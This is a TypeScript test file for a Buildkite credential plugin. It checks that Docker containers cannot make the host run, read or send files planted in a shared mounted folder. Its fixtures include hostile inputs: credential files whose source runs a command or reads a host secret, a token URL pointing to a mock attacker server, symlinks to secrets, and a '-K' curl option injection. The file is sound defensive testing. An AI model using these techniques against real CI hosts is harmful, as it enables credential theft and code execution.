// The folder that the docker plugins mount, for writing too: a container finds in it what client libraries read and
// nothing else, and whatever it leaves there, the host reads, runs and follows none of it.

import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { PluginConfiguration } from '../../../sandbox/fakes/buildkite/plugin.ts';
import { type InProcessKeydesk, openInProcessKeydesk } from '../../fixtures/in-process-keydesk.ts';
import { type Front, openFront } from './front.ts';
import { grantEvents, PLUGIN, recorder, runAStep, type StepSetup, USE_CREDENTIALS } from './step.ts';

const HOST_SECRET = 'host-secret-0123456789abcdef';
let keydesk: InProcessKeydesk;
let attacker: Front;
let folder: string;
beforeAll(async () => {
  keydesk = await openInProcessKeydesk();
  attacker = await openFront(keydesk.tokenUrl);
});
afterAll(async () => {
  await attacker.close();
  await keydesk.close();
});
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'keydesk-mounted-'));
  mkdirSync(join(folder, 'precious'));
  writeFileSync(join(folder, 'secret'), HOST_SECRET);
  attacker.seen.length = 0;
  return () => rmSync(folder, { recursive: true, force: true });
});

const inAFile: PluginConfiguration = { 'job-token': 'file', lifetime: 600 };

it('the mounted folder holds what client libraries read and no access token', async () => {
  const credentials = [
    { name: 'staging-config', file: 'GOOGLE_APPLICATION_CREDENTIALS', token: 'CONFIG' },
    { name: 'staging-export', file: 'EXPORT_FILE', token: 'EXPORT' },
    { name: 'staging-admin', token: 'ADMIN' },
  ];
  const command = `cd "$BUILDKITE_OIDC_TMPDIR"; find . -type f | sed 's,.*/,is there: ,' | sort
    for token in "$CONFIG" "$EXPORT" "$ADMIN"; do [ -n "$token" ]; ! grep -rF -e "$token" .; done; ${USE_CREDENTIALS}`;
  const { output, exitCode, environment } = await runAStep(keydesk, {
    command,
    uses: [{ credentials, ...inAFile }],
  });
  expect(exitCode).toBe(0);
  const names = ['job-token', 'staging-config.json', 'staging-export.json'];
  expect([...output.matchAll(/^is there: (.*)$/gm)].map(([, name]) => name)).toEqual(names);
  expect(environment).toHaveProperty('KEYDESK_DIR');
});

it('no folder is mounted with job-token: executable', async () => {
  const command = 'echo "mounted: $BUILDKITE_OIDC_TMPDIR"; ls -A "$KEYDESK_DIR/mounted" | wc -l | tr -d " "';
  const { output } = await runAStep(keydesk, { command });
  expect(output).toContain('\nmounted: \n0\n');
});

describe('a file that a container rewrites', () => {
  /** What runs in a container: it sees nothing of the host but the mounted folder. */
  function everythingRewritten(): string {
    const source = (text: string) =>
      JSON.stringify({
        type: 'external_account',
        universe_domain: 'googleapis.com',
        audience: 'x',
        subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
        token_url: `${attacker.url}/token`,
        credential_source: JSON.parse(text),
      });
    writeFileSync(join(folder, 'runs.json'), source(`{"executable":{"command":"/bin/touch ${folder}/ran"}}`));
    writeFileSync(join(folder, 'reads.json'), source(`{"file":"${folder}/secret"}`));
    return `[ -d "$BUILDKITE_OIDC_TMPDIR" ] || exit 0; cd "$BUILDKITE_OIDC_TMPDIR"
      for at in */; do
        case "$at" in '*/') continue ;; esac
        for name in "$at"*.json; do cp "${folder}/$EVIL.json" "$name"; done
        rm "$at/job-token"; printf '/bin/touch ${folder}/ran' >"$at/job-token"; printf x >"$at/audience"
      done`;
  }

  /** A plugin whose hooks on the host use Google's library, and the agent's upload of artifacts, which does so too. */
  function onTheHost(variable = 'GOOGLE_APPLICATION_CREDENTIALS'): Pick<StepSetup, 'plugins' | 'others' | 'upload'> {
    const uploader = join(folder, 'uploader');
    mkdirSync(join(uploader, 'hooks'), { recursive: true });
    const use = (where: string) =>
      `GOOGLE_APPLICATION_CREDENTIALS="$${variable}" ${USE_CREDENTIALS} 2>/dev/null | sed 's/^/${where} /' || true`;
    for (const hook of ['post-command', 'pre-exit']) writeFileSync(join(uploader, 'hooks', hook), `${use(hook)}\n`);
    return { plugins: { keydesk: PLUGIN, uploader }, others: ['acme/uploader#v1'], upload: use('upload') };
  }

  const expectNothingOfTheContainer = () => {
    expect(existsSync(join(folder, 'ran'))).toBe(false);
    expect(attacker.seen).toEqual([]);
  };

  it.each([
    ['executable', 'runs', {}],
    ['executable', 'reads', {}],
    ['file', 'runs', inAFile],
    ['file', 'reads', inAFile],
  ])('is neither run nor read on the host, with job-token: %s and a file that %s', async (kind, evil, use) => {
    const command = `EVIL=${evil}; ${everythingRewritten()}`;
    const { exitCode, output, environment, leftBehind } = await runAStep(keydesk, {
      command,
      uses: [use],
      ...onTheHost(),
    });
    expect(exitCode).toBe(0);
    expectNothingOfTheContainer();
    // They go on working: with the copy that the plugin wrote before the command.
    expect(output).toMatch(/^post-command sha256 [0-9a-f]{64}$/m);
    expect(output).toMatch(/^upload sha256 [0-9a-f]{64}$/m);
    expect(Object.values(environment).filter((value) => value.includes('/mounted'))).toEqual([]);
    expect(environment).not.toHaveProperty('BUILDKITE_OIDC_TMPDIR');
    expect('GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES' in environment).toBe(kind === 'executable');
    expect(leftBehind).toEqual([]);
  });

  it('is not run by an earlier hook than the plugin’s, when the step also has an executable', async () => {
    const agentHooks = join(folder, 'agent-hooks');
    mkdirSync(agentHooks);
    const use = `${USE_CREDENTIALS} 2>/dev/null || true`;
    writeFileSync(join(agentHooks, 'post-command'), `#!/bin/bash\n${use}\n`);
    const executable: PluginConfiguration = { credentials: { name: 'staging-export', file: 'EXPORT_FILE' } };
    for (const uses of [
      [executable, inAFile],
      [inAFile, executable],
    ]) {
      const command = `EVIL=runs; ${everythingRewritten()}`;
      const { exitCode, output, environment } = await runAStep(keydesk, {
        command,
        uses,
        agentHooks,
        ...onTheHost('EXPORT_FILE'),
      });
      expect(exitCode).toBe(0);
      expectNothingOfTheContainer();
      // The executable works again once no variable names what the container can write.
      expect(output).toMatch(/^post-command sha256 [0-9a-f]{64}$/m);
      expect(output).toMatch(/^upload sha256 [0-9a-f]{64}$/m);
      expect(environment.GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES).toBe('1');
    }
  });

  it('is neither run nor read while the container still runs', async () => {
    writeFileSync(join(folder, 'go'), '');
    const command = `export EVIL=reads
      setsid sh -c 'cd "$BUILDKITE_OIDC_TMPDIR" && while [ -e ${folder}/go ]; do
        for name in */*.json; do cp "${folder}/reads.json" "$name"; done; sleep 0.05; done' >/dev/null 2>&1 </dev/null &
      sleep 0.3`;
    everythingRewritten();
    const { exitCode, output, environment } = await runAStep(keydesk, {
      command,
      uses: [inAFile],
      ...onTheHost(),
      environment: { TMPDIR: folder },
    });
    rmSync(join(folder, 'go'));
    expect(exitCode).toBe(0);
    expectNothingOfTheContainer();
    expect(output).toMatch(/^upload sha256 [0-9a-f]{64}$/m);
    for (const part of ['private', 'host', 'clients'])
      expect(existsSync(join(String(environment.KEYDESK_DIR), part))).toBe(false);
  });

  it('is named by no variable that another hook has copied, and a variable that another hook has set stays', async () => {
    const other = join(folder, 'other');
    mkdirSync(join(other, 'hooks'), { recursive: true });
    writeFileSync(
      join(other, 'hooks/pre-command'),
      'export EXPORT_FILE=/of/another COPY="a:$GOOGLE_APPLICATION_CREDENTIALS:b"\nexport MANY="$COPY\n$COPY"\n',
    );
    const credentials = ['staging-config', { name: 'staging-export', file: 'EXPORT_FILE' }];
    const { environment, output } = await runAStep(keydesk, {
      uses: [{ credentials, ...inAFile }],
      command: 'echo "during: $GOOGLE_APPLICATION_CREDENTIALS"',
      plugins: { keydesk: PLUGIN, other },
      others: ['acme/other#v1'],
      environment: { SHELLOPTS: 'errexit:nounset:noglob:allexport', BASHOPTS: 'failglob:nocasematch' },
    });
    expect(output).toMatch(/^during: \/.*\/mounted\/\w{10}\/staging-config\.json$/m);
    const { EXPORT_FILE, COPY = '', MANY, GOOGLE_APPLICATION_CREDENTIALS = '' } = environment;
    expect(EXPORT_FILE).toBe('/of/another');
    expect(GOOGLE_APPLICATION_CREDENTIALS).toMatch(/\/host\/\w{10}\/staging-config\.json$/);
    expect(COPY).toBe(`a:${GOOGLE_APPLICATION_CREDENTIALS}:b`);
    expect(MANY).toBe(`${COPY}\n${COPY}`);
  });
});

it('no file that a container leaves in the mounted folder is followed, read, sent or overwritten', async () => {
  const [secret, precious] = [join(folder, 'secret'), join(folder, 'precious')];
  // In every folder that there is, and in every one that there could be.
  const command = `cd "$BUILDKITE_OIDC_TMPDIR"
    for at in . $(find . -mindepth 1 -type d) 9 private private/1 mounted mounted/9; do
      mkdir -p "$at"
      rm -f "$at/url"; printf '%s' '${attacker.url}' >"$at/url"
      ln -s '${secret}' "$at/a.access-token"
      printf '%s' ya29.of-the-attacker-0123456789 >"$at/b.access-token"
      for name in b.access-token.said b.access-token.release/answer answer complaint; do
        mkdir -p "$(dirname "$at/$name")"; ln -sf '${secret}' "$at/$name"
      done
      ln -s '${precious}' "$at/c.access-token.release"
      printf '%s' ya29.of-the-attacker-0123456789 >"$at/c.access-token"
    done
    mkdir 8; printf '%s' '-K${folder}' >8/url; cp 9/b.access-token 8/`;
  const curl = recorder(folder, 'curl');
  const { exitCode, output, leftBehind, job } = await runAStep(keydesk, {
    command,
    uses: [inAFile],
    path: [curl.folder],
  });
  expect(exitCode).toBe(0);
  expect(output.match(/: released$/gm)).toHaveLength(1);
  expect(output).toContain('staging-config: released');
  expect(grantEvents(keydesk, job).slice(-1)).toEqual(['grant.revoked staging-config']);
  expect(attacker.seen).toEqual([]);
  // One argument a line. The random name of the plugin's folder may have -K in it.
  expect(curl.calls()).not.toMatch(/^-K/m);
  expect(readFileSync(secret, 'utf8')).toBe(HOST_SECRET);
  expect(readdirSync(precious)).toEqual([]);
  expect(leftBehind).toEqual([]);
});

it('a link in place of the mounted folder is removed, and its target is not', async () => {
  writeFileSync(join(folder, 'precious/file'), 'precious');
  const command = `rm -rf "$BUILDKITE_OIDC_TMPDIR"; ln -s '${join(folder, 'precious')}' "$BUILDKITE_OIDC_TMPDIR"`;
  const { exitCode, output, leftBehind } = await runAStep(keydesk, { command, uses: [inAFile] });
  expect(exitCode).toBe(0);
  expect(output).toContain('staging-config: released');
  expect(existsSync(join(folder, 'precious/file'))).toBe(true);
  expect(leftBehind).toEqual([]);
});

it('the mounted folder is removed with any content: pipes, huge files, deep folders, links, names that look like options', async () => {
  writeFileSync(join(folder, 'precious/file'), 'precious');
  const command = `cd "$BUILDKITE_OIDC_TMPDIR"; mkfifo pipe; truncate -s 64G huge; ln -s '${folder}/precious' link
    ln -s / root; ln -s loop loop; mkdir -- '-rf' '--' 'a b'; printf x >'new
line'; mknod null c 1 3 2>/dev/null || true
    at=.; for n in $(seq 1 200); do at="$at/d"; done; mkdir -p "$at"; ln -s '${folder}/precious' "$at/link"`;
  const { exitCode, output, leftBehind } = await runAStep(keydesk, { command, uses: [inAFile] });
  expect(exitCode).toBe(0);
  expect(output).not.toContain('Could not remove');
  expect(readFileSync(join(folder, 'precious/file'), 'utf8')).toBe('precious');
  expect(leftBehind).toEqual([]);
});

it('secrets are removed first, however much a container has written', async () => {
  writeFileSync(join(folder, 'rm'), `#!/bin/sh\nprintf '%s\\n' "$*" >>'${folder}/removed'\nexec /bin/rm "$@"\n`, {
    mode: 0o755,
  });
  const { environment } = await runAStep(keydesk, { uses: [inAFile], path: [folder] });
  const removed = readFileSync(join(folder, 'removed'), 'utf8').split('\n');
  const at = String(environment.KEYDESK_DIR);
  const [secret, mounted] = ['private', 'mounted'].map((part) =>
    removed.findIndex((line) => line.includes(`${at}/${part}`)),
  );
  expect(secret).toBeGreaterThanOrEqual(0);
  expect(mounted).toBeGreaterThan(Number(secret));
});
